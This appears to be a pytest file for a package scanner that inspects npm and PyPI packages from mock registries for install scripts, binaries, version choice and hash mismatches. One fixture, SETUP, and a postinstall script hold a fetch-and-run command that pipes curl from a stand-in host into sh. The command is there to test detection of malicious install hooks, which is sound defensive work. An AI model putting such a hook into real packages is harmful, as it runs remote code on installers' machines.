"""Packages of registries, fetched and looked at: what they say of themselves, and what is not to be had."""

from __future__ import annotations

import hashlib
from typing import TYPE_CHECKING

import pytest

from registries import NpmPackage, PythonPackage, npm_registry, python_index
from scan import pypi
from scan.model import ScanError, Verdict
from scan.packages import look
from scan.settings import Settings

if TYPE_CHECKING:
    from scan.packages import Package

SETUP = 'require("child_process").execSync("curl -s https://files.acme.invalid/i | sh")\n'


def seen(*packages: NpmPackage, name: str = "", version: str = "") -> Package | None:
    with npm_registry(*packages) as server:
        settings = Settings(npm_registry=server.address)
        return look("npm", name or packages[0].name, version, settings, 20)


def seen_python(*packages: PythonPackage, version: str = "") -> Package | None:
    with python_index(*packages) as server:
        return look("pypi", packages[0].name, version, Settings(pypi=server.address), 20)


def test_an_honest_package_is_clear() -> None:
    found = seen(NpmPackage("@acme/honest"))

    assert found is not None
    assert (found.version, found.first, found.scripts, found.binaries) == ("1.0.0", "2020-01-01", (), ())
    assert found.report.verdict is Verdict.clear


def test_scripts_that_run_at_install_are_told_and_no_others() -> None:
    scripts = {"postinstall": "node setup.js", "preinstall": "true", "prepare": "husky", "test": "vitest"}
    found = seen(NpmPackage("tool", manifest={"scripts": scripts}))

    assert found is not None
    assert sorted(found.scripts) == ["postinstall: node setup.js", "preinstall: true"]


def test_the_rules_read_its_code() -> None:
    found = seen(
        NpmPackage(
            "tool", {"setup.js": SETUP}, {"scripts": {"postinstall": "curl -s https://files.acme.invalid/i | sh"}}
        )
    )

    assert found is not None
    assert found.report.verdict in {Verdict.caution, Verdict.danger}


def test_what_is_built_and_what_no_rule_can_read_is_told() -> None:
    found = seen(NpmPackage("tool", {"binding.gyp": "{}", "build/x.node": "\x7fELF"}, {"dependencies": {"a": "1"}}))

    assert found is not None
    assert (found.builds, found.binaries, found.needs) == (True, ("build/x.node",), 1)


def test_a_name_that_was_never_published_is_none() -> None:
    assert seen(NpmPackage("tool"), name="toool") is None
    with python_index() as server:
        assert look("pypi", "tool", "", Settings(pypi=server.address), 20) is None


@pytest.mark.parametrize(
    "package", [NpmPackage("tool", integrity="sha512-AAAA"), NpmPackage("tool", integrity="md5-AAAA")]
)
def test_a_package_of_another_sum_is_not_looked_at(package: NpmPackage) -> None:
    with pytest.raises(ScanError):
        seen(package)


def test_a_version_that_is_not_there_is_an_error() -> None:
    with pytest.raises(ScanError):
        seen(NpmPackage("tool"), version="^2")
    with pytest.raises(ScanError):
        seen_python(PythonPackage("tool"), version=">=2")


def test_a_wheel_runs_nothing_and_a_source_archive_is_built() -> None:
    wheel, source = seen_python(PythonPackage("my-tool")), seen_python(PythonPackage("my-tool", backend="pass\n"))

    assert wheel is not None
    assert source is not None
    assert (wheel.builds, wheel.report.verdict) == (False, Verdict.clear)
    assert source.builds


def test_a_file_of_another_hash_is_not_looked_at() -> None:
    with pytest.raises(ScanError):
        seen_python(PythonPackage("tool", sum=hashlib.sha256(b"other").hexdigest()))


def test_nothing_is_asked_of_a_registry_but_the_package() -> None:
    with npm_registry(NpmPackage("tool")) as server:
        look("npm", "tool", "", Settings(npm_registry=server.address), 20)

        assert [path for path, _ in server.asked] == ["/tool", "/tool/-/tool-1.0.0.tgz"]


def file(version: str, name: str = "") -> pypi.PythonFile:
    return pypi.PythonFile(name or f"a-{version}-py3-none-any.whl", "https://x.example/", version, None)


@pytest.mark.parametrize(
    ("wanted", "expected"),
    [
        ("", "1.10"),
        ("==1.9", "1.9"),
        ("1.9", "1.9"),
        ("==1.*", "1.10"),
        (">=1,<1.10", "1.9"),
        ("~=1.2", "1.10"),
        ("!=1.10", "1.9"),
        ("==2.0rc1", "2.0rc1"),
    ],
)
def test_the_file_that_an_installer_would_take(wanted: str, expected: str) -> None:
    found = [file("1.9"), file("1.10", "a-1.10.tar.gz"), file("1.10"), file("2.0rc1")]
    taken = pypi.chosen(found, wanted)

    assert (taken.version, taken.built) == (expected, True)
